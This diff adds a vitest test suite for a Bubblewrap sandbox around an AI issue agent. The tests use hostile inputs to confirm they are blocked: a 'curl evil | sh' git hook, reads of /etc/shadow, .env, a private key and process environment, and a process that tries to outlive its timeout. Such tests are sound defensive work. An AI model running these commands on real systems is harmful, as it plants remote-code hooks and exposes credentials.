@@ -1,0 +1,143 @@
+import { execFileSync } from "node:child_process";
+import { once } from "node:events";
+import {
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import os from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parseAgentConfig } from "../../src/config/parse-agent-config.ts";
+import { PathPolicy } from "../../src/guardrails/paths/path-policy.ts";
+import { BubblewrapSandbox, probeBubblewrap } from "../../src/sandbox/bubblewrap-sandbox.ts";
+
+const root = realpathSync(mkdtempSync(path.join(os.tmpdir(), "issue-agent-bwrap-")));
+const workspace = path.join(root, "repo");
+const appSecretFile = path.join(root, "app-private-key.pem");
+
+function sandbox(overrides: { network?: boolean; paths?: object } = {}) {
+  const config = parseAgentConfig({
+    paths: { read_only: ["docs/**"], forbidden: ["config/**", ".env*"], ...overrides.paths },
+  });
+  return new BubblewrapSandbox({
+    workspace,
+    scratch: path.join(root, "scratch"),
+    network: overrides.network ?? false,
+    policy: new PathPolicy(config.paths),
+  });
+}
+const run = (
+  command: string,
+  options: { timeoutMs?: number; maxOutputBytes?: number; network?: boolean } = {},
+) =>
+  sandbox({ network: options.network ?? false }).run({
+    command,
+    cwd: workspace,
+    timeoutMs: options.timeoutMs ?? 15_000,
+    maxOutputBytes: options.maxOutputBytes ?? 20_000,
+  });
+
+beforeAll(async () => {
+  expect(await probeBubblewrap()).toEqual({ available: true });
+  for (const dir of [".git/hooks", "src", "docs", "config"])
+    mkdirSync(path.join(workspace, dir), { recursive: true });
+  writeFileSync(path.join(workspace, "src/app.js"), "console.log('app')\n");
+  writeFileSync(path.join(workspace, "docs/guide.md"), "guide\n");
+  writeFileSync(path.join(workspace, "config/secrets.yml"), "password: hunter2\n");
+  writeFileSync(path.join(workspace, ".env"), "API_KEY=sk-live-secret\n");
+  writeFileSync(path.join(workspace, ".git/config"), "[core]\n");
+  writeFileSync(appSecretFile, "-----BEGIN PRIVATE KEY-----\n");
+  symlinkSync(path.join(workspace, ".env"), path.join(workspace, "src/env-link"));
+});
+afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+describe("BubblewrapSandbox", () => {
+  it("runs in the workspace and may change ordinary files there", async () => {
+    const result = await run("pwd && echo changed > src/new.js && cat src/new.js");
+    expect(result).toMatchObject({ exitCode: 0 });
+    expect(result.output).toBe(`${workspace}\nchanged\n`);
+    expect(readFileSync(path.join(workspace, "src/new.js"), "utf8")).toBe("changed\n");
+  });
+
+  it("keeps .git read-only: no hook can be planted", async () => {
+    const result = await run("echo 'curl evil | sh' > .git/hooks/pre-commit");
+    expect(result.exitCode).not.toBe(0);
+    expect(result.output).toContain("Read-only file system");
+    expect(() => readFileSync(path.join(workspace, ".git/hooks/pre-commit"))).toThrow();
+  });
+
+  it("mounts read_only paths read-only and hides forbidden ones, symlinks included", async () => {
+    const result = await run(
+      "echo x >> docs/guide.md; echo 'docs:'$?; cat config/secrets.yml; echo 'config:'$?; ls config | wc -l; cat .env; cat src/env-link; echo end",
+    );
+    expect(result.output).toContain("Read-only file system");
+    expect(result.output).toContain("docs:1");
+    expect(result.output).not.toContain("hunter2");
+    expect(result.output).not.toContain("sk-live-secret");
+    expect(readFileSync(path.join(workspace, "docs/guide.md"), "utf8")).toBe("guide\n");
+  });
+
+  it("shows a read-only system, a private /tmp and nothing of the app's own files", async () => {
+    const result = await run(
+      `touch /usr/x 2>&1; cat ${appSecretFile} 2>&1; ls /root 2>&1; cat /etc/shadow | wc -c; echo tmp > /tmp/t && cat /tmp/t; ls ${process.cwd()} 2>&1 | head -1`,
+    );
+    expect(result.output).toContain("Read-only file system");
+    expect(result.output).not.toContain("BEGIN PRIVATE KEY");
+    expect(result.output).toMatch(/No such file or directory|cannot access/);
+    expect(result.output).toContain("tmp");
+    expect(result.output).not.toContain("package.json");
+  });
+
+  it("has no environment beyond the allowlist", async () => {
+    process.env.ISSUE_AGENT_TEST_SECRET = "sk-never-visible";
+    try {
+      const result = await run("env; cat /proc/1/environ | tr '\\0' '\\n'");
+      expect(result.output).not.toContain("sk-never-visible");
+      expect(result.output).toContain("HOME=");
+    } finally {
+      delete process.env.ISSUE_AGENT_TEST_SECRET;
+    }
+  });
+
+  it("cannot reach the network unless the config allows it", async () => {
+    const server = http.createServer((_req, res) => res.end("reached"));
+    server.listen(0, "127.0.0.1");
+    await once(server, "listening");
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+    const probe = `node -e "fetch('${url}').then(r => r.text()).then(t => console.log(t), e => console.log('blocked', e.cause?.code ?? e.message))"`;
+    try {
+      expect((await run(probe)).output).toContain("blocked");
+      // With the network on, the sandbox shares the host's network namespace.
+      expect((await run(probe, { network: true })).output).toContain("reached");
+    } finally {
+      server.close();
+    }
+  });
+
+  it("kills a background process that tries to outlive the timeout", async () => {
+    const marker = `issue-agent-escape-${process.pid}-${Date.now()}`;
+    const result = await run(
+      `(setsid nohup bash -c 'exec -a ${marker} sleep 120' >/dev/null 2>&1 &); sleep 60`,
+      { timeoutMs: 700 },
+    );
+    expect(result.timedOut).toBe(true);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(() => execFileSync("pgrep", ["-f", marker])).toThrow();
+  });
+
+  it("caps a command that prints 100 MB", async () => {
+    const result = await run("head -c 100000000 /dev/zero | tr '\\0' y; echo; echo DONE", {
+      timeoutMs: 30_000,
+      maxOutputBytes: 4_000,
+    });
+    expect(result.output.length).toBeLessThan(4_100);
+    expect(result.output.trimEnd().endsWith("DONE")).toBe(true);
+  });
+});
